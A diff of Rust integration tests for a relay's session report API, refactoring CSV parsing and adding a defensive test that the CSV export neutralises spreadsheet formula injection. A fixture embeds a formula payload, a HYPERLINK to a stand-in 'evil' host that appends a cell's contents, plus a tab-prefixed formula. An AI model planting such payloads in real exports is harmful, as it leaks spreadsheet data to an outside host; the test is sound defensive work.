@@ -174,15 +174,13 @@ async fn a_tenant_administrators_report_matches_the_audit_log_exactly_in_json_cs
     // CSV: the same rows, the same values.
     let (status, csv) = http(admin, "GET", "/api/v1/reports/sessions.csv", Some(&token)).await;
     assert_eq!(status, 200);
-    let mut lines = csv.split("\r\n").filter(|l| !l.is_empty());
-    let header: Vec<&str> = lines.next().unwrap().split(',').collect();
-    let column = |name: &str| header.iter().position(|h| *h == name).unwrap();
-    let csv_rows: Vec<Vec<String>> = lines
-        .map(|l| l.split(',').map(String::from).collect())
-        .collect();
+    let records = common::csv::parse(&csv);
+    let header = &records[0];
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let csv_rows = &records[1..];
     assert_eq!(csv_rows.len(), expected.len());
     let expected_by_id = by_id(expected.clone());
-    for cells in &csv_rows {
+    for cells in csv_rows {
         let row = &expected_by_id[&cells[column("session_id")]];
         assert_eq!(cells[column("helper")], row.helper);
         assert_eq!(cells[column("recipient")], row.sharer);
@@ -353,12 +351,10 @@ async fn every_sort_pages_without_duplicates_or_gaps_and_filters_select_what_the
             Some(&token),
         )
         .await;
-        let exported: BTreeSet<String> = csv
-            .split("\r\n")
-            .skip(1)
-            .filter(|l| !l.is_empty())
-            .map(|l| l.split(',').nth(1).unwrap().to_string())
-            .collect();
+        let exported: BTreeSet<String> =
+            common::csv::column(&common::csv::parse(&csv), "session_id")
+                .into_iter()
+                .collect();
         assert_eq!(exported, want, "csv {query}");
     }
     relay.stop().await;
@@ -931,5 +927,99 @@ async fn a_tenants_own_administration_audience_replaces_the_relays_for_that_tena
         status(signed("contoso", "api://fabrikam-reports")).await,
         401
     );
+    relay.stop().await;
+}
+
+/// A cell that a spreadsheet would run as a formula: after splitting at `separator` the way
+/// spreadsheets do (a `"` opens or closes a quoted stretch anywhere, `""` inside is a
+/// quote), a cell that starts with `=`, `+`, `-`, `@` or a tab.
+fn formula_cells(csv: &str, separator: char) -> Vec<String> {
+    let mut cells = Vec::new();
+    for record in csv.split("\r\n") {
+        let (mut cell, mut quoted) = (String::new(), false);
+        let mut chars = record.chars().peekable();
+        while let Some(c) = chars.next() {
+            match c {
+                '"' if quoted && chars.peek() == Some(&'"') => {
+                    chars.next();
+                    cell.push('"');
+                }
+                '"' => quoted = !quoted,
+                c if c == separator && !quoted => cells.push(std::mem::take(&mut cell)),
+                c => cell.push(c),
+            }
+        }
+        cells.push(cell);
+    }
+    cells
+        .into_iter()
+        .filter(|c| c.starts_with(['=', '+', '-', '@', '\t']) && c != "--")
+        .collect()
+}
+
+#[tokio::test]
+async fn the_csv_export_quotes_every_cell_so_no_locale_runs_a_formula_from_a_device_name_or_reason()
+{
+    const DEVICE: &str = r#"x;=HYPERLINK("https://evil/?"&B2,"open")"#;
+    const REASON: &str = "\t=1+2";
+    let relay = TestRelay::builder()
+        .tenant(
+            "csv-injection",
+            TokenSigner::generate_ed25519("csv-injection-1").unwrap(),
+        )
+        .policy("csv-injection", report_roles)
+        .config(move |c| {
+            let at = SystemTime::now() - Duration::from_secs(3600);
+            let started = remote_help_relay::audit::AuditEvent {
+                event: Some(EventKind::SessionStarted),
+                tenant: "csv-injection".into(),
+                session_id: "0123456789abcdef0123456789abcdef".into(),
+                helper_name: Some("Ada".into()),
+                sharer_name: Some("Grace".into()),
+                device_name: Some(DEVICE.into()),
+                platform: Some("windows".into()),
+                control_type: Some("view_only".into()),
+                modes: vec!["view_only".into()],
+                reason: Some(REASON.into()),
+                ..Default::default()
+            };
+            write_history(
+                AuditConfig {
+                    dir: c.audit.dir.clone(),
+                    max_file_bytes: c.audit.max_file_bytes,
+                    retention_days: c.audit.retention_days,
+                    reserve_bytes: 0,
+                    key_file: Some(c.state_dir.join(KEY_FILE)),
+                },
+                [(at, vec![started])],
+            )
+            .unwrap();
+        })
+        .start()
+        .await;
+    let admin = relay.handle.admin_addr().unwrap();
+    let token = admin_token(&relay, "csv-injection", &["report-readers"]);
+    let (status, csv) = http(admin, "GET", "/api/v1/reports/sessions.csv", Some(&token)).await;
+    assert_eq!(status, 200, "{csv}");
+
+    // Every data cell is quoted; the one starting with a tab is also prefixed with `'`.
+    let row = csv.split("\r\n").nth(1).unwrap();
+    assert!(
+        row.contains(r#","x;=HYPERLINK(""https://evil/?""&B2,""open"")","#),
+        "{row:?}"
+    );
+    assert!(row.contains(",\"'\t=1+2\","), "{row:?}");
+    assert!(row.starts_with("\"csv-injection\","), "{row:?}");
+    let records = common::csv::parse(&csv);
+    assert_eq!(records.len(), 2);
+    assert_eq!(common::csv::column(&records, "device"), [DEVICE]);
+    assert_eq!(
+        common::csv::column(&records, "reason"),
+        [format!("'{REASON}")]
+    );
+    // Opened where the list separator is `,` or `;` (German, French Excel), no cell is a
+    // formula.
+    assert_eq!(formula_cells(&csv, ','), Vec::<String>::new());
+    assert_eq!(formula_cells(&csv, ';'), Vec::<String>::new());
     relay.stop().await;
 }
